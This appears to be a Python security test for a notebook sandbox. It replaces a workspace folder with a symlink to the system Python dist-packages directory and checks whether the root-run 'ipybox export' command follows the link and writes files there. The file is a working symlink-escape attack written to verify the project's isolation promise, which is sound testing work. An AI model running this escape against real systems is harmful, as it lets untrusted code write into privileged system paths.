# SPDX-License-Identifier: Apache-2.0
"""Root exports a session into a folder that a cell has swapped for a link out of the workspace"""

from box import Box, CannotTry

BREAKS = (
    "SECURITY.md",
    "What the server writes stays below the workspace, also when code puts links there",
)

OUT = "/usr/local/lib/python3.13/dist-packages"


def attack(box: Box) -> str:
    code = f"os.path.lexists('results') or os.symlink({OUT!r}, 'results'); os.makedirs('real', exist_ok=True)"
    box.cell(code)
    box.cell("planted = 1")
    said = [
        box.inside("/bin/sh", "-c", f"cd /app/workspace && ipybox export {name}")
        for name in (
            "results/report.py",
            "/app/workspace/results/other.py",
            "./real/../results/x.py",
        )
    ]
    wanted = f"{OUT}/report.py {OUT}/other.py {OUT}/x.py"
    found = box.inside("/bin/sh", "-c", f"ls {wanted} 2>/dev/null; rm -f {wanted}").strip()
    if not found and not all("link" in text or "denied" in text for text in said):
        raise CannotTry(f"the exports said {said}")
    return found
